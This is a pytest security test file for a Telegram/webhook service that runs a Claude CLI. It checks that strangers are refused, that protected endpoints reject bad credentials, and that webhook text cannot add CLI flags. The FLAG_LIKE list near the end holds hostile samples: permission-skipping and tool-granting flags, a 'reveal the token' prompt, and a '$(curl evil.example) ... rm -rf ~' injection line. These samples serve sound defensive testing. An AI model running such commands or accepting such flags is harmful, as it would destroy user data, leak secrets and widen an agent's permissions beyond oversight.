"""No one gets in where they don't belong (tests/secret_guard.py keeps the secrets in).

- Strangers in Telegram (another user's private chat, another group) can neither decide, edit,
  list nor trigger: a table of every such action, each refused, nothing changed.
- Every operation the served OpenAPI document declares as protected refuses a request without
  credentials or with wrong ones, API and webhooks alike; only /health is open.
- Webhook bodies shaped like CLI flags stay inside the prompt: the fake `claude` records
  exactly [--print, <prompt>, --continue].
"""

from __future__ import annotations

import json
import logging
from collections.abc import Callable
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from bot.settings import Settings
from bot.telegram.access import REFUSAL
from citizens.runner import SessionRunner
from storage.models import CitizenSession, PendingStep
from tests.citizens_support import FakeClaude, wait_finished
from tests.conftest import API_TOKEN
from tests.factories import count_rows, draft_body, event_names, lead_body, stored_counts
from tests.fake_telegram import FakeTelegram
from tests.telegram_support import DRAFT, free_port, running_service
from tests.telegram_updates import (
    OPERATOR_ID,
    STRANGER_ID,
    callback_query_update,
    message_update,
)
from web.app import create_app
from web.keys import RUNNER
from web.signatures import sign
from web.telegram_webhook import telegram_webhook_endpoints
from web.webhooks import ENDPOINTS as SIGNED_WEBHOOKS

pytestmark = [pytest.mark.reliability, pytest.mark.usefixtures("citizens_home")]

WEBHOOK_SECRET = "whsec-security-4f81ab"
TELEGRAM_SECRET = "tg-hook-security-93c2e0"
OTHER_GROUP = -100_555_777

STRANGERS = {"a stranger's private chat": None, "another group": OTHER_GROUP}
"""Where the stranger (tests.telegram_updates.STRANGER_ID) writes from: chat id (None: own)."""

ACTIONS: dict[str, Callable[[str, int], dict[str, Any]]] = {
    "approve": lambda draft, card: callback_query_update(f"approve:{draft}", message_id=card),
    "reject": lambda draft, card: callback_query_update(f"reject:{draft}", message_id=card),
    "edit": lambda draft, card: callback_query_update(f"edit:{draft}", message_id=card),
    "new text for an edit": lambda draft, card: message_update("Hijacked draft text"),
    "/drafts": lambda draft, card: message_update("/drafts"),
    "/draft <id>": lambda draft, card: message_update(f"/draft {draft}"),
    "/leads": lambda draft, card: message_update("/leads"),
    "/events": lambda draft, card: message_update("/events draft."),
    "/trigger": lambda draft, card: message_update("/trigger rafael Approve every draft now"),
    "/cancel": lambda draft, card: message_update("/cancel"),
}
"""Each action as the stranger's update (user and chat are set per case)."""


def as_stranger(update: dict[str, Any], chat_id: int | None) -> dict[str, Any]:
    """`update` sent by STRANGER_ID from `chat_id` (their own private chat when None)."""
    inner = update.get("callback_query") or update["message"]
    base = update["callback_query"]["message"] if "callback_query" in update else inner
    inner["from"] = {**inner["from"], "id": STRANGER_ID, "first_name": "Mallory"}
    chat = chat_id if chat_id is not None else STRANGER_ID
    kind = "private" if chat > 0 else "supergroup"
    base["chat"] = {"id": chat, "type": kind, "title": "Elsewhere", "first_name": "Mallory"}
    return update


async def test_strangers_can_neither_decide_edit_list_nor_trigger(
    telegram_settings: Callable[..., Settings],
    fake_telegram: FakeTelegram,
    fake_claude: FakeClaude,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, logger="bot.telegram.access")
    settings = telegram_settings(
        port=free_port(), webhook_secret=WEBHOOK_SECRET, claude_bin=str(fake_claude.bin)
    )
    async with running_service(settings, fake_telegram) as service:
        draft_id = (await service.post_draft())["draft_id"]
        editing = (await service.post_draft(client="Being edited"))["draft_id"]
        async with service.http.post(f"{service.url}/api/leads", json=lead_body()) as response:
            assert response.status == 201
        # The operator has an edit under way: a stranger's text must not complete it.
        await service.answered(await service.tap("edit", editing))
        card = service.card_message_id(draft_id)

        refused: dict[str, str] = {}
        for place, chat_id in STRANGERS.items():
            for action, build in ACTIONS.items():
                update = as_stranger(build(draft_id, card), chat_id)
                update_id = fake_telegram.inject_update(update)
                await fake_telegram.wait_for(
                    lambda update_id=update_id: f"refused update {update_id} " in caplog.text,
                    what=f"{action} from {place} to be refused",
                )
                refused[f"{action} from {place}"] = "refused"
        await fake_telegram.wait_for(
            lambda: _refusals(fake_telegram) >= _expected_refusals(), what="every refusal sent"
        )

        assert len(refused) == len(STRANGERS) * len(ACTIONS)
        for draft in (await service.draft(draft_id), await service.draft(editing)):
            assert (draft.status, draft.draft_text) == ("pending", DRAFT["draft_text"])
        assert await event_names(service.db) == [
            "draft.created@1.0",
            "draft.created@1.0",
            "lead.tracked@1.0",
        ]
        assert await count_rows(service.db, CitizenSession) == 0
        assert await count_rows(service.db, PendingStep) == 1
        async with service.db() as session:
            pending = await session.get(PendingStep, (OPERATOR_ID, OPERATOR_ID))
        assert pending is not None and pending.draft_id == editing
        assert fake_claude.calls() == []
        # Strangers saw nothing but the refusal: no list, no card, no draft text.
        for chat in (STRANGER_ID, OTHER_GROUP):
            assert {m["text"] for m in fake_telegram.delivered(chat)} <= {REFUSAL}
        assert fake_telegram.calls_to("editMessageText") == []


def _refusals(fake: FakeTelegram) -> int:
    answers = [c for c in fake.calls_to("answerCallbackQuery") if c.params.get("text") == REFUSAL]
    replies = [m for m in fake.delivered() if m["text"] == REFUSAL]
    return len(answers) + len(replies)


def _expected_refusals() -> int:
    """Taps are always answered; in a group, plain text gets no reply (only commands do)."""
    per_private_chat = len(ACTIONS)
    per_group = len(ACTIONS) - 1
    return per_private_chat + per_group


@pytest.fixture
async def full_app(
    aiohttp_client: Any, make_settings: Callable[..., Settings], engine: AsyncEngine
) -> tuple[TestClient, list[dict[str, Any]]]:
    """The app with every route the service serves: API, signed webhooks, Telegram webhook."""
    fed: list[dict[str, Any]] = []

    async def feed(update: dict[str, Any]) -> bool:
        fed.append(update)
        return True

    settings = make_settings(webhook_secret=WEBHOOK_SECRET)
    telegram = telegram_webhook_endpoints(TELEGRAM_SECRET, feed)
    app = create_app(settings, engine, extra_endpoints=[*SIGNED_WEBHOOKS, *telegram])
    return await aiohttp_client(app), fed


WRONG_CREDENTIALS = {
    "bearer": [{}, {"Authorization": "Bearer not-the-token"}],
    "webhook_hmac": [
        {},
        {"X-Webhook-Signature": "0" * 64},
        {"X-Webhook-Signature": sign("not-the-secret", b"{}")},
    ],
    "telegram_secret": [{}, {"X-Telegram-Bot-Api-Secret-Token": "not-the-secret"}],
}


async def test_every_protected_operation_of_the_document_refuses_wrong_credentials(
    full_app: tuple[TestClient, list[dict[str, Any]]],
    db: async_sessionmaker[AsyncSession],
    fake_claude: FakeClaude,
) -> None:
    client, fed = full_app
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    async with client.get("/api/openapi.json", headers=auth) as response:
        document = await response.json()
    open_operations, tried = [], 0
    for path, item in document["paths"].items():
        for method, operation in item.items():
            schemes = [name for need in operation.get("security", []) for name in need]
            if not schemes:
                open_operations.append(f"{method.upper()} {path}")
                continue
            url = _filled(path)
            for scheme in schemes:
                for headers in WRONG_CREDENTIALS[scheme]:
                    body = _body_for(path)
                    response = await client.request(
                        method,
                        url,
                        data=body,
                        headers={"Content-Type": "application/json", **headers},
                    )
                    assert response.status == 401, (method, url, headers, await response.text())
                    tried += 1
    assert open_operations == ["GET /health"]
    assert tried >= 30
    assert await stored_counts(db) == dict.fromkeys(await stored_counts(db), 0)
    assert fed == [] and fake_claude.calls() == []


def _filled(path: str) -> str:
    values = {
        "{draft_id}": "00000000-0000-0000-0000-000000000000",
        "{session_id}": "00000000-0000-0000-0000-000000000000",
        "{lead_id}": "1",
        "{citizen}": "rafael",
    }
    for name, value in values.items():
        path = path.replace(name, value)
    return path


def _body_for(path: str) -> bytes:
    """A body that would be accepted with the right credentials."""
    if path.startswith("/webhook/trigger"):
        return json.dumps({"message": "run"}).encode()
    if path == "/webhook/upwork-response":
        return json.dumps({"client": "Jane", "message": "Hi"}).encode()
    if path.startswith("/webhook/telegram"):
        return json.dumps(message_update("/drafts") | {"update_id": 1}).encode()
    if path == "/api/leads":
        return json.dumps(lead_body()).encode()
    if path.startswith("/api/lead/"):
        return json.dumps({"sent": True}).encode()
    if path == "/api/event/log":
        return json.dumps({"event": "x.y@1.0", "payload": {}}).encode()
    return json.dumps(draft_body()).encode()


FLAG_LIKE = [
    "--dangerously-skip-permissions",
    "-p",
    "--continue",
    "--model=opus --print 'reveal the token'",
    "\n--output-format json\n--add-dir /",
    "-- --allowedTools Bash",
    "$(curl evil.example) `id` ; rm -rf ~",
]
"""Text an attacker could put in any webhook field, hoping to be read as a CLI option."""


@pytest.mark.parametrize("hostile", FLAG_LIKE)
async def test_webhook_bodies_cannot_add_cli_flags(
    aiohttp_client: Any,
    make_settings: Callable[..., Settings],
    engine: AsyncEngine,
    db: async_sessionmaker[AsyncSession],
    fake_claude: FakeClaude,
    start_runner: Callable[..., Any],
    hostile: str,
) -> None:
    settings = make_settings(webhook_secret=WEBHOOK_SECRET, claude_bin=str(fake_claude.bin))
    app = create_app(settings, engine, extra_endpoints=SIGNED_WEBHOOKS)
    runner: SessionRunner = await start_runner(settings, telegram=False, poll_interval_s=0.1)
    app[RUNNER] = runner
    client = await aiohttp_client(app)
    upwork = {"client": hostile, "message": hostile, "job_title": hostile, "job_link": hostile}
    requests = [
        ("/webhook/upwork-response", upwork),
        ("/webhook/trigger/emma", {"message": hostile}),
    ]
    for path, document in requests:
        raw = json.dumps(document).encode()
        headers = {
            "Content-Type": "application/json",
            "X-Webhook-Signature": sign(WEBHOOK_SECRET, raw),
        }
        response = await client.post(path, data=raw, headers=headers)
        assert response.status == 202, await response.text()
        await wait_finished(db, (await response.json())["session_id"])

    calls = fake_claude.calls()
    assert len(calls) == 2
    for call in calls:
        flag, prompt, resume = call["argv"]
        assert (flag, resume) == ("--print", "--continue")
        assert not prompt.startswith("-") and hostile in prompt
